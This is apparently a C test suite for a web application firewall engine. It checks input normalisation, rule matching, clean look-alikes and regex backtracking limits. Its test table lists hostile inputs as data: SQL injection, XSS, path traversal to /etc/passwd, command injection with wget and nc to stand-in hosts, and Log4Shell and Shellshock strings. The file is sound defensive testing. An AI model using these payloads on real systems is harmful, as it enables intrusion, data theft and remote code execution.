/*
 * test_waf.c: the WAF engine (modules/http/waf/lb_waf_engine.c): the
 * normaliser's output, every basic rule catching its own examples and not
 * a set of clean look-alikes, the disable list, and hostile fields full of
 * near-matches, which must never reach PCRE2's match limits (a pattern
 * that backtracks catastrophically would: the limit is an assertion, not a
 * clock). Scan costs are printed, never asserted.
 */
#include "lb_core.h"
#include "lb_waf_engine.h"

#include <check.h>
#include <time.h>

#ifndef PCRE2_CODE_UNIT_WIDTH
#define PCRE2_CODE_UNIT_WIDTH  8
#endif
#include <pcre2.h>

static lb_waf_set_t *
basic_set(const char *const *disable, size_t n)
{
    char           err[256];
    lb_waf_set_t  *set = lb_waf_set_new(lb_waf_basic_rules, lb_waf_nbasic, disable, n,
                                        err, sizeof(err));

    ck_assert_msg(set != NULL, "%s", err);
    return set;
}

static const char *
norm(const char *in, unsigned how, const lb_waf_rule_t **bad)
{
    static u_char  out[256];
    size_t         n;

    *bad = lb_waf_normalize((const u_char *) in, strlen(in), how, out, &n);
    out[n] = '\0';
    return (const char *) out;
}

START_TEST(the_normaliser_decodes_folds_and_collapses)
{
    static const struct { const char *in; unsigned how; const char *out; } cases[] = {
        { "a+b%20C", LB_WAF_IN_ARGS, "a b c" },
        { "a+b", LB_WAF_IN_PATH, "a+b" },                 /* '+' is a space in queries only */
        { "%2527", LB_WAF_IN_ARGS, "'" },                 /* double encoding */
        { "%25252E", LB_WAF_IN_ARGS, "." },               /* three layers */
        { "%2", LB_WAF_IN_ARGS, "%2" },                   /* a broken escape stays */
        { "%zz%41", LB_WAF_IN_ARGS, "%zza" },
        { "/a//b/./c/../d", LB_WAF_IN_PATH, "/a/b/c/../d" },
        { "\\..\\win.ini", LB_WAF_IN_PATH, "/../win.ini" },
        { "./x", LB_WAF_IN_PATH, "x" },
        { "/a/.", LB_WAF_IN_PATH, "/a/" },
        { "/.hidden/..x", LB_WAF_IN_PATH, "/.hidden/..x" },
        { "%2e%2E%2f", LB_WAF_IN_PATH, "../" },
        { "SELECT", LB_WAF_IN_HEADERS, "select" },
    };
    const lb_waf_rule_t  *bad;
    size_t                i;

    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        ck_assert_str_eq(norm(cases[i].in, cases[i].how, &bad), cases[i].out);
        ck_assert_ptr_null(bad);
    }
}
END_TEST

START_TEST(nul_and_overlong_utf8_are_refused)
{
    static const char *const  nul[] = { "%00", "a%2500b", "x%00" };
    static const char *const  overlong[] = { "%c0%ae%c0%ae/", "%C1%81", "%e0%80%af",
                                             "%f0%80%80%af" };
    const lb_waf_rule_t      *bad;
    size_t                    i;

    for (i = 0; i < sizeof(nul) / sizeof(nul[0]); i++) {
        norm(nul[i], LB_WAF_IN_ARGS, &bad);
        ck_assert_ptr_eq(bad, &lb_waf_rule_nul);
    }
    for (i = 0; i < sizeof(overlong) / sizeof(overlong[0]); i++) {
        norm(overlong[i], LB_WAF_IN_PATH, &bad);
        ck_assert_ptr_eq(bad, &lb_waf_rule_overlong);
    }
    /* real UTF-8 passes: é, €, 😀 */
    norm("%c3%a9%e2%82%ac%f0%9f%98%80", LB_WAF_IN_ARGS, &bad);
    ck_assert_ptr_null(bad);
}
END_TEST

/* Each rule with requests it must catch, as a query argument value
 * (percent-encoded as a client sends it) or a path or a header. */
static const struct {
    const char  *id;
    unsigned     kind;
    const char  *text;
} attacks[] = {
    { "sqli-1", LB_WAF_IN_ARGS, "1'%20or%20'1'='1" },
    { "sqli-1", LB_WAF_IN_ARGS, "admin\"+or+\"\"=\"" },
    { "sqli-1", LB_WAF_IN_ARGS, "x')+OR+('a'+like+'a" },
    { "sqli-2", LB_WAF_IN_ARGS, "1+or+1=1" },
    { "sqli-2", LB_WAF_IN_ARGS, "10 AND 42=42" },
    { "sqli-2", LB_WAF_IN_ARGS, "x'+or+true--" },
    { "sqli-3", LB_WAF_IN_ARGS, "1+UNION+SELECT+null,version()" },
    { "sqli-3", LB_WAF_IN_ARGS, "1/**/union/**/all/**/select/**/1" },
    { "sqli-3", LB_WAF_IN_PATH, "/item/1%20union%20distinct%20select%202" },
    { "sqli-4", LB_WAF_IN_ARGS, "1;DROP+TABLE+users" },
    { "sqli-4", LB_WAF_IN_ARGS, "1;+delete+from+accounts" },
    { "sqli-4", LB_WAF_IN_ARGS, "5;%20update%20users%20set%20admin=1" },
    { "sqli-5", LB_WAF_IN_ARGS, "admin'--" },
    { "sqli-5", LB_WAF_IN_ARGS, "1)%23" },
    { "sqli-5", LB_WAF_IN_ARGS, "/*!50000select*/" },
    { "sqli-6", LB_WAF_IN_ARGS, "1+and+sleep(5)" },
    { "sqli-6", LB_WAF_IN_ARGS, "1;waitfor+delay+'0:0:5'" },
    { "sqli-6", LB_WAF_IN_ARGS, "benchmark(1000000,md5(1))" },
    { "sqli-7", LB_WAF_IN_ARGS, "from+information_schema.tables" },
    { "sqli-7", LB_WAF_IN_ARGS, "@@version" },
    { "sqli-8", LB_WAF_IN_ARGS, "x'+and+(select+1)" },
    { "sqli-9", LB_WAF_IN_ARGS, "char(97,100,109,105,110)" },
    { "sqli-9", LB_WAF_IN_ARGS, "concat(0x3a,user())" },
    { "sqli-10", LB_WAF_IN_ARGS, "exec+master..xp_cmdshell+'dir'" },
    { "sqli-11", LB_WAF_IN_ARGS, "1+order+by+5--" },
    { "sqli-11", LB_WAF_IN_ARGS, "1+having+1=1" },
    { "sqli-12", LB_WAF_IN_ARGS, "a';" },
    { "xss-1", LB_WAF_IN_ARGS, "%3Cscript%3Ealert(1)%3C/script%3E" },
    { "xss-1", LB_WAF_IN_ARGS, "%253Cscript%253E" },
    { "xss-1", LB_WAF_IN_ARGS, "<%20ScRiPt>" },
    { "xss-2", LB_WAF_IN_ARGS, "<img+src=x+onerror=alert(1)>" },
    { "xss-2", LB_WAF_IN_ARGS, "\"+onmouseover=\"alert(1)" },
    { "xss-2", LB_WAF_IN_ARGS, "<body/onload=x>" },
    { "xss-3", LB_WAF_IN_ARGS, "javascript:alert(1)" },
    { "xss-3", LB_WAF_IN_ARGS, "<a+href=\"JaVaScRiPt:x\">" },
    { "xss-3", LB_WAF_IN_ARGS, "data:text/html;base64,PHNjcmlwdD4=" },
    { "xss-4", LB_WAF_IN_ARGS, "<iframe+src=//evil>" },
    { "xss-4", LB_WAF_IN_ARGS, "<svg/x>" },
    { "xss-5", LB_WAF_IN_ARGS, "document.cookie" },
    { "xss-5", LB_WAF_IN_ARGS, "eval('x')" },
    { "xss-6", LB_WAF_IN_ARGS, "width:expression(alert(1))" },
    { "xss-6", LB_WAF_IN_ARGS, "<div+srcdoc=x>" },
    { "trav-1", LB_WAF_IN_PATH, "/static/..%2f..%2fetc/passwd" },
    { "trav-1", LB_WAF_IN_PATH, "/a/%252e%252e/b" },
    { "trav-1", LB_WAF_IN_ARGS, "..%5c..%5cwindows" },
    { "trav-1", LB_WAF_IN_ARGS, "../../secret" },
    { "trav-2", LB_WAF_IN_ARGS, "/etc/passwd" },
    { "trav-2", LB_WAF_IN_PATH, "/files/proc/self/environ" },
    { "trav-3", LB_WAF_IN_PATH, "/.git/config" },
    { "trav-3", LB_WAF_IN_PATH, "/app/.env" },
    { "cmd-1", LB_WAF_IN_ARGS, "x;cat+notes.txt" },
    { "cmd-1", LB_WAF_IN_ARGS, "1|id" },
    { "cmd-1", LB_WAF_IN_ARGS, "x%26%26wget+http://e/x" },
    { "cmd-1", LB_WAF_IN_ARGS, "$(whoami)" },
    { "cmd-2", LB_WAF_IN_ARGS, "`uname+-a`" },
    { "cmd-3", LB_WAF_IN_ARGS, "${jndi:ldap://evil/a}" },
    { "cmd-3", LB_WAF_IN_HEADERS, "${${::-j}ndi:x}" },
    { "cmd-3", LB_WAF_IN_ARGS, "a${IFS}b" },
    { "cmd-4", LB_WAF_IN_HEADERS, "() { :;}; x=1" },
    { "cmd-5", LB_WAF_IN_ARGS, "/bin/sh+-c+x" },
    { "cmd-5", LB_WAF_IN_ARGS, "nc+-e+/bin/x+1.2.3.4" },
    { "hdr-1", LB_WAF_IN_ARGS, "x%0d%0aSet-Cookie:+a=b" },
    { "hdr-1", LB_WAF_IN_COOKIES, "x%0aLocation:%20//evil" },
    { "hdr-2", LB_WAF_IN_PATH, "/a%0d" },
};

static const lb_waf_rule_t *
check(lb_waf_set_t *set, unsigned kind, const char *text, char *what)
{
    const u_char  *t = (const u_char *) text;
    size_t         n = strlen(text);
    char           buf[4096];

    switch (kind) {
    case LB_WAF_IN_PATH:
        return lb_waf_check_path(set, t, n, what);
    case LB_WAF_IN_ARGS:
        snprintf(buf, sizeof(buf), "q=%s", text);
        return lb_waf_check_query(set, (const u_char *) buf, strlen(buf), what);
    case LB_WAF_IN_COOKIES:
        snprintf(buf, sizeof(buf), "sid=%s", text);
        return lb_waf_check_cookies(set, (const u_char *) buf, strlen(buf), what);
    default:
        return lb_waf_check_header(set, "user-agent", t, n, what);
    }
}

START_TEST(every_rule_catches_its_examples)
{
    lb_waf_set_t         *set = basic_set(NULL, 0);
    const lb_waf_rule_t  *hit;
    char                  what[LB_WAF_WHAT_LEN];
    size_t                i, k;
    bool                  seen;

    for (i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        hit = check(set, attacks[i].kind, attacks[i].text, what);
        ck_assert_msg(hit != NULL, "%s: nothing caught %s", attacks[i].id, attacks[i].text);
        ck_assert_msg(strcmp(hit->id, attacks[i].id) == 0, "%s expected for %s, %s matched",
                      attacks[i].id, attacks[i].text, hit->id);
    }
    /* and every rule has an example here */
    for (k = 0; k < lb_waf_nbasic; k++) {
        seen = false;
        for (i = 0; i < sizeof(attacks) / sizeof(attacks[0]) && !seen; i++) {
            seen = strcmp(attacks[i].id, lb_waf_basic_rules[k].id) == 0;
        }
        ck_assert_msg(seen, "rule %s has no example in the test", lb_waf_basic_rules[k].id);
    }
    lb_waf_set_free(set);
}
END_TEST

START_TEST(the_field_that_hit_is_named)
{
    lb_waf_set_t         *set = basic_set(NULL, 0);
    const lb_waf_rule_t  *hit;
    char                  what[LB_WAF_WHAT_LEN];
    static const char     q[] = "page=2&search=%3Cscript%3E&x=1";
    static const char     cookies[] = "a=1; theme=dark; sid=1'%20or%20'1'='1";

    hit = lb_waf_check_query(set, (const u_char *) q, sizeof(q) - 1, what);
    ck_assert_ptr_nonnull(hit);
    ck_assert_str_eq(what, "arg search");
    hit = lb_waf_check_cookies(set, (const u_char *) cookies, sizeof(cookies) - 1, what);
    ck_assert_ptr_nonnull(hit);
    ck_assert_str_eq(hit->id, "sqli-1");
    ck_assert_str_eq(what, "cookie sid");
    /* an argument's name is checked too */
    hit = lb_waf_check_query(set, (const u_char *) "%3Csvg%3E=1", 11, what);
    ck_assert_ptr_nonnull(hit);
    ck_assert_str_eq(what, "arg %3Csvg%3E");    /* as sent */
    lb_waf_set_free(set);
}
END_TEST

START_TEST(clean_look_alikes_pass)
{
    static const struct { unsigned kind; const char *text; } clean[] = {
        { LB_WAF_IN_ARGS, "rock+%27n%27+roll" },
        { LB_WAF_IN_ARGS, "O%27Reilly+and+sons" },
        { LB_WAF_IN_ARGS, "select+a+union+rep" },
        { LB_WAF_IN_ARGS, "order+by+price" },
        { LB_WAF_IN_ARGS, "drop+shipping+table+tennis" },
        { LB_WAF_IN_ARGS, "%7B%22q%22%3A%22shoes%22%2C%22n%22%3A10%7D" },
        { LB_WAF_IN_ARGS, "aGVsbG8gd29ybGQ%3D" },
        { LB_WAF_IN_ARGS, "**bold**+and+_italic_+%23+title" },
        { LB_WAF_IN_ARGS, "5+%3C+10+and+10+%3E+5" },
        { LB_WAF_IN_ARGS, "email%40example.com" },
        { LB_WAF_IN_ARGS, "learn+javascript:+basics" },
        { LB_WAF_IN_ARGS, "the+moon+online" },
        { LB_WAF_IN_ARGS, "cat+and+dog+photos" },
        { LB_WAF_IN_ARGS, "Tom+%26+Jerry" },
        { LB_WAF_IN_ARGS, "1.2.3" },
        { LB_WAF_IN_PATH, "/api/v2/users/42/orders" },
        { LB_WAF_IN_PATH, "/static/app.9f8e7d.js" },
        { LB_WAF_IN_PATH, "/.well-known/acme-challenge/xyz" },
        { LB_WAF_IN_PATH, "/blog/2024/05/union-select-committee" },
        { LB_WAF_IN_HEADERS, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 "
                             "(KHTML, like Gecko) Chrome/120.0 Safari/537.36" },
        { LB_WAF_IN_HEADERS, "https://www.example.com/search?q=o%27neil" },
        { LB_WAF_IN_COOKIES, "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_" },
    };
    lb_waf_set_t         *set = basic_set(NULL, 0);
    const lb_waf_rule_t  *hit;
    char                  what[LB_WAF_WHAT_LEN];
    size_t                i;

    for (i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
        hit = check(set, clean[i].kind, clean[i].text, what);
        ck_assert_msg(hit == NULL, "%s matched clean \"%s\"", hit ? hit->id : "", clean[i].text);
    }
    lb_waf_set_free(set);
}
END_TEST

START_TEST(a_disabled_rule_no_longer_matches)
{
    static const char *const  off[] = { "xss-1", "sqli-1" };
    lb_waf_set_t             *set = basic_set(off, 2);
    char                      what[LB_WAF_WHAT_LEN];

    ck_assert_ptr_null(check(set, LB_WAF_IN_ARGS, "%3Cscript%3E", what));
    ck_assert_ptr_null(check(set, LB_WAF_IN_ARGS, "x'%20or%20'a'='a", what));
    ck_assert_ptr_nonnull(check(set, LB_WAF_IN_ARGS, "1+union+select+1", what));
    /* the normaliser's refusals cannot be disabled */
    ck_assert_ptr_eq(check(set, LB_WAF_IN_ARGS, "%00", what), &lb_waf_rule_nul);
    lb_waf_set_free(set);
}
END_TEST

START_TEST(every_rule_is_documented)
{
    size_t  i, k;

    for (i = 0; i < lb_waf_nbasic; i++) {
        ck_assert(lb_waf_basic_rules[i].catches && lb_waf_basic_rules[i].catches[0]);
        ck_assert(lb_waf_basic_rules[i].false_positive
                  && lb_waf_basic_rules[i].false_positive[0]);
        ck_assert(lb_waf_rule_known(lb_waf_basic_rules, lb_waf_nbasic,
                                    lb_waf_basic_rules[i].id));
        for (k = i + 1; k < lb_waf_nbasic; k++) {
            ck_assert_str_ne(lb_waf_basic_rules[i].id, lb_waf_basic_rules[k].id);
        }
    }
    ck_assert(!lb_waf_rule_known(lb_waf_basic_rules, lb_waf_nbasic, "sqli-99"));
}
END_TEST

/* Each rule's `needs` is a claim about its pattern: a field the rule's
 * pattern matches holds one of those bytes, pairs or words. Checked on
 * random fields made of the pieces attacks are made of: whenever a rule's
 * pattern, run alone over the normalised field, matches, a set holding
 * that rule alone (which matches only what the field wakes) must report
 * it. */
START_TEST(every_rule_needs_what_its_pattern_needs)
{
    static const char *const  pieces[] = {
        " ", "  ", "'", "\"", "`", "(", ")", ";", "|", "&", "$", "{", "}", "<", ">", "=",
        ":", "/", "\\", "#", "*", "@", ",", ".", "-", "_", "!", "\r", "\n", "\t",
        "..", "--", "/.", "/*", "*/", "0", "1", "42", "0x41", "a", "x", "id",
        "or", "and", "xor", "union", "select", "all", "distinct", "from", "where", "like",
        "true", "drop", "table", "delete", "insert", "into", "update", "set", "exec",
        "execute", "xp_cmdshell", "master", "sleep", "benchmark", "waitfor", "delay",
        "outfile", "information_schema", "mysql", "user", "sys", "objects", "sysobjects",
        "pg_catalog", "char", "concat", "order", "by", "having", "version", "script",
        "img", "onerror", "onload", "javascript", "data", "text", "html", "iframe", "svg",
        "document", "cookie", "window", "location", "string", "fromcharcode", "eval",
        "expression", "srcdoc", "etc", "passwd", "proc", "self", "windows", "win", "ini",
        "boot", "git", "env", "cat", "ls", "wget", "bin", "sh", "bash", "nc", "jndi", "ifs",
        "set-cookie", "location", "unionselect", "ordering", "android",
    };
    const size_t  npieces = sizeof(pieces) / sizeof(pieces[0]);
    static const unsigned     kinds[] = {
        LB_WAF_IN_PATH, LB_WAF_IN_ARGS, LB_WAF_IN_COOKIES, LB_WAF_IN_HEADERS
    };
    const char               *off[64];
    lb_waf_set_t             *alone[64];
    pcre2_code               *code[64];
    pcre2_match_data         *md = pcre2_match_data_create(1, NULL);
    const lb_waf_rule_t      *bad, *hit;
    char                      field[512], what[LB_WAF_WHAT_LEN];
    u_char                    norm_buf[512];
    size_t                    r, i, k, n, len, matched = 0;
    uint64_t                  seed = 12345;
    PCRE2_SIZE                offset;
    int                       errcode, round;

    ck_assert_uint_le(lb_waf_nbasic, 64);
    for (r = 0; r < lb_waf_nbasic; r++) {
        for (i = 0, n = 0; i < lb_waf_nbasic; i++) {
            if (i != r) {
                off[n++] = lb_waf_basic_rules[i].id;
            }
        }
        alone[r] = basic_set(off, n);
        code[r] = pcre2_compile((PCRE2_SPTR) lb_waf_basic_rules[r].pattern,
                                PCRE2_ZERO_TERMINATED, 0, &errcode, &offset, NULL);
        ck_assert_ptr_nonnull(code[r]);
    }
    for (round = 0; round < 30000; round++) {
        seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
        n = 1 + (seed >> 33) % 10;
        len = 0;
        for (i = 0; i < n; i++) {
            seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
            k = (size_t) (seed >> 33) % npieces;
            if (len + strlen(pieces[k]) >= sizeof(field)) {
                break;
            }
            memcpy(field + len, pieces[k], strlen(pieces[k]));
            len += strlen(pieces[k]);
        }
        for (k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {
            bad = lb_waf_normalize((const u_char *) field, len, kinds[k], norm_buf, &n);
            if (bad) {
                continue;
            }
            for (r = 0; r < lb_waf_nbasic; r++) {
                if (!(lb_waf_basic_rules[r].in & kinds[k])
                    || pcre2_match(code[r], norm_buf, n, 0, 0, md, NULL) < 0)
                {
                    continue;
                }
                matched++;
                hit = kinds[k] == LB_WAF_IN_PATH
                      ? lb_waf_check_path(alone[r], (const u_char *) field, len, what)
                      : lb_waf_check_header(alone[r], "x", (const u_char *) field, len, what);
                if (kinds[k] == LB_WAF_IN_ARGS || kinds[k] == LB_WAF_IN_COOKIES) {
                    /* as one value, without the splitting */
                    continue;
                }
                ck_assert_msg(hit == &lb_waf_basic_rules[r], "rule %s matches \"%.*s\" but "
                              "its needs do not wake it", lb_waf_basic_rules[r].id,
                              (int) len, field);
            }
        }
    }
    printf("waf: needs checked on %zu random matches\n", matched);
    ck_assert_uint_gt(matched, 1000);
    for (r = 0; r < lb_waf_nbasic; r++) {
        lb_waf_set_free(alone[r]);
        pcre2_code_free(code[r]);
    }
    pcre2_match_data_free(md);
}
END_TEST

static double
now_ms(void)
{
    struct timespec  ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

/* A field of the largest head size made of one near-miss repeated, for
 * every kind of field: never the match limit (which is what catastrophic
 * backtracking would reach), whatever else it matches. */
START_TEST(near_misses_of_the_largest_size_stay_within_the_limits)
{
    static const char *const  units[] = {
        " ", "'", "' ", "'or", "' or ", "or 1", "or 1=", "union ", "union/**/", "/*", "*/",
        "<", "< ", "<a ", "<a on", " on", "\"on", "=", "((", "()", "() {", "${", "$(", "`",
        "`cat ", ";", "; ", "| ", "..", "../", "./", "/", "//", "%", "%25", "%2", "\r",
        "\r\n", "\n x", "char(1,", "concat(", "@@", "select ", "exec ", "javascript",
        "data:", "expression", "-- ", "#", "0x41", "a", "1", "'a'='", "\"", "\\",
    };
    static const unsigned     kinds[] = {
        LB_WAF_IN_PATH, LB_WAF_IN_ARGS, LB_WAF_IN_COOKIES, LB_WAF_IN_HEADERS
    };
    lb_waf_set_t             *set = basic_set(NULL, 0);
    const lb_waf_rule_t      *hit;
    char                      what[LB_WAF_WHAT_LEN];
    size_t                    size = 16 * 1024, u, k, len, n;
    double                    worst = 0, t;
    u_char                   *field = malloc(size + 8);
    const char               *worst_unit = "";

    ck_assert_ptr_nonnull(field);
    for (u = 0; u < sizeof(units) / sizeof(units[0]); u++) {
        len = strlen(units[u]);
        for (n = 0; n + len <= size; n += len) {
            memcpy(field + n, units[u], len);
        }
        for (k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {
            t = now_ms();
            switch (kinds[k]) {
            case LB_WAF_IN_PATH:
                hit = lb_waf_check_path(set, field, n, what);
                break;
            case LB_WAF_IN_ARGS:
                hit = lb_waf_check_query(set, field, n, what);
                break;
            case LB_WAF_IN_COOKIES:
                hit = lb_waf_check_cookies(set, field, n, what);
                break;
            default:
                hit = lb_waf_check_header(set, "referer", field, n, what);
            }
            t = now_ms() - t;
            if (t > worst) {
                worst = t;
                worst_unit = units[u];
            }
            ck_assert_msg(hit != &lb_waf_rule_limit, "\"%s\" x %zu reached the match limit",
                          units[u], n / len);
        }
    }
    printf("waf: slowest 16 KiB near-miss field: %.2f ms (\"%s\" repeated)\n", worst,
           worst_unit);
    free(field);
    lb_waf_set_free(set);
}
END_TEST

START_TEST(a_clean_request_costs_little)
{
    static const char  q[] = "q=running+shoes+for+women&page=2&sort=price_asc&size=38"
                             "&utm_source=newsletter&utm_campaign=spring";
    static const char  ua[] = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 "
                              "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
    static const char  path[] = "/shop/catalogue/women/shoes/running";
    lb_waf_set_t      *set = basic_set(NULL, 0);
    char               what[LB_WAF_WHAT_LEN];
    double             t;
    int                i, rounds = 20000;

    t = now_ms();
    for (i = 0; i < rounds; i++) {
        ck_assert_ptr_null(lb_waf_check_path(set, (const u_char *) path, sizeof(path) - 1,
                                             what));
        ck_assert_ptr_null(lb_waf_check_query(set, (const u_char *) q, sizeof(q) - 1, what));
        ck_assert_ptr_null(lb_waf_check_header(set, "user-agent", (const u_char *) ua,
                                               sizeof(ua) - 1, what));
    }
    t = now_ms() - t;
    printf("waf: a clean request (path, 6 arguments, user-agent): %.2f us\n",
           t * 1000 / rounds);
    lb_waf_set_free(set);
}
END_TEST

static Suite *
waf_suite(void)
{
    Suite  *s = suite_create("waf");
    TCase  *tc = tcase_create("engine");

    tcase_set_timeout(tc, 120);
    tcase_add_test(tc, the_normaliser_decodes_folds_and_collapses);
    tcase_add_test(tc, nul_and_overlong_utf8_are_refused);
    tcase_add_test(tc, every_rule_catches_its_examples);
    tcase_add_test(tc, the_field_that_hit_is_named);
    tcase_add_test(tc, clean_look_alikes_pass);
    tcase_add_test(tc, a_disabled_rule_no_longer_matches);
    tcase_add_test(tc, every_rule_is_documented);
    tcase_add_test(tc, every_rule_needs_what_its_pattern_needs);
    tcase_add_test(tc, near_misses_of_the_largest_size_stay_within_the_limits);
    tcase_add_test(tc, a_clean_request_costs_little);
    suite_add_tcase(s, tc);
    return s;
}

int
main(void)
{
    SRunner  *sr = srunner_create(waf_suite());
    int       failed;

    srunner_run_all(sr, CK_NORMAL);
    failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    return failed ? 1 : 0;
}
